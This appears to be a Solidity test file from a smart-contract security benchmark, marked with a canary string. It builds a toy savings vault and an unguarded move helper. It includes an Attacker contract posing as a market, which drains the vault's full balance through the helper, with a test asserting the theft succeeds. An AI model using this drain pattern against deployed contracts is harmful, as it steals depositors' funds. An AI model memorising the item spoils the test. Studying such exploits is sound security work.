// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./MoveHelper.sol";
import {Market} from "./context/Market.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-99f19102-6445-4fdf-839d-44875a9cd1a5

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant EVE = address(0xE5E);
    address private constant IDA = address(0x1DA);
    address private constant OLE = address(0x01E);

    Usd private usd;
    CauseVault private vault;
    MoveHelper private helper;
    Market private mill;
    Market private barn;
    Attacker private mallory;

    function setUp() public {
        usd = new Usd();
        vault = new CauseVault(usd);
        helper = new MoveHelper(vault);
        mill = new Market(usd);
        barn = new Market(usd);
        vault.setManager(EVE, true);
        vault.setManager(address(helper), true);
        vault.setHelper(address(helper), true);
        usd.transfer(IDA, 300_000e6);
        usd.transfer(OLE, 100_000e6);
        vm.startPrank(IDA);
        usd.approve(address(vault), type(uint256).max);
        vault.save(240_000e6);
        vm.stopPrank();
        vm.startPrank(OLE);
        usd.approve(address(vault), type(uint256).max);
        vault.save(60_000e6);
        vm.stopPrank();
        mallory = new Attacker(vault, helper);
    }

    function _move(MoveHelper.Kind kind, Market market, uint256 amount) private pure returns (MoveHelper.Move memory) {
        return MoveHelper.Move(kind, market, amount);
    }

    function test_Regular() public {
        MoveHelper.Move[] memory moves = new MoveHelper.Move[](4);
        moves[0] = _move(MoveHelper.Kind.Cap, mill, 150_000e6);
        moves[1] = _move(MoveHelper.Kind.Cap, barn, 100_000e6);
        moves[2] = _move(MoveHelper.Kind.Put, mill, 150_000e6);
        moves[3] = _move(MoveHelper.Kind.Put, barn, 70_000e6);
        vm.prank(EVE);
        helper.run(moves);
        require(vault.inMarket(mill) == 150_000e6 && mill.suppliedBy(address(vault)) == 150_000e6, "first market");
        require(usd.balanceOf(address(vault)) == 80_000e6 && vault.capOf(barn) == 100_000e6, "the rest");

        // by hand, without the helper
        vm.startPrank(EVE);
        vault.take(EVE, mill, 150_000e6);
        vault.setCap(EVE, mill, 0);
        vault.put(EVE, barn, 30_000e6);
        vm.stopPrank();
        require(usd.balanceOf(address(vault)) == 200_000e6 && vault.inMarket(barn) == 100_000e6, "moved");

        // from the second market, and to the savers
        moves = new MoveHelper.Move[](1);
        moves[0] = _move(MoveHelper.Kind.Take, barn, 100_000e6);
        vm.prank(EVE);
        helper.run(moves);
        vm.prank(IDA);
        vault.back(240_000e6);
        vm.prank(OLE);
        vault.back(10_000e6);
        require(usd.balanceOf(IDA) == 300_000e6 && usd.balanceOf(OLE) == 50_000e6, "one to one");
        require(vault.savedBy(OLE) == 50_000e6 && vault.savedBy(IDA) == 0, "on record");
        vault.setManager(OLE, true);
        vm.prank(OLE);
        vault.setCap(OLE, barn, 1);
        require(vault.capOf(barn) == 1, "another manager");
        vault.transferOwnership(OLE);
        vm.prank(OLE);
        vault.renounceOwnership();
        require(vault.owner() == address(0), "left to itself");
    }

    function test_RefusesOtherCallers() public {
        vm.startPrank(OLE);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, OLE));
        vault.setManager(OLE, true);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, OLE));
        vault.setHelper(OLE, true);
        vm.expectRevert(abi.encodeWithSelector(CauseVault.NotManager.selector, OLE));
        vault.setCap(OLE, mill, 1);
        vm.expectRevert(abi.encodeWithSelector(CauseVault.NotManager.selector, OLE));
        vault.put(OLE, mill, 0);
        vm.expectRevert(abi.encodeWithSelector(CauseVault.NotManager.selector, OLE));
        vault.take(OLE, mill, 0);
        vm.expectRevert(abi.encodeWithSelector(CauseVault.NotFor.selector, EVE));
        vault.setCap(EVE, mill, 1);
        vm.expectRevert(abi.encodeWithSelector(CauseVault.NotFor.selector, EVE));
        vault.put(EVE, mill, 0);
        vm.expectRevert(abi.encodeWithSelector(CauseVault.NotFor.selector, EVE));
        vault.take(EVE, mill, 0);
        vm.stopPrank();
    }

    function test_RefusesTooMuch() public {
        vm.startPrank(EVE);
        vault.setCap(EVE, mill, 5e6);
        vm.expectRevert(abi.encodeWithSelector(CauseVault.OverCap.selector, 5e6));
        vault.put(EVE, mill, 5e6 + 1);
        vm.expectRevert("bad length");
        helper.run(new MoveHelper.Move[](0));
        MoveHelper.Move[] memory moves = new MoveHelper.Move[](13);
        for (uint256 i = 0; i < moves.length; ++i) moves[i] = _move(MoveHelper.Kind.Cap, mill, i);
        vm.expectRevert("bad length");
        helper.run(moves);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 300_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Is a market that keeps what it is given.
contract Attacker is IMarket {
    CauseVault private vault;
    MoveHelper private helper;

    constructor(CauseVault vault_, MoveHelper helper_) {
        vault = vault_;
        helper = helper_;
    }

    function run() external {
        uint256 all = vault.dollar().balanceOf(address(vault));
        MoveHelper.Move[] memory moves = new MoveHelper.Move[](2);
        moves[0] = MoveHelper.Move(MoveHelper.Kind.Cap, this, all);
        moves[1] = MoveHelper.Move(MoveHelper.Kind.Put, this, all);
        helper.run(moves);
    }

    function supply(uint256 amount) external {
        vault.dollar().transferFrom(msg.sender, address(this), amount);
    }

    function withdraw(uint256) external {}
}
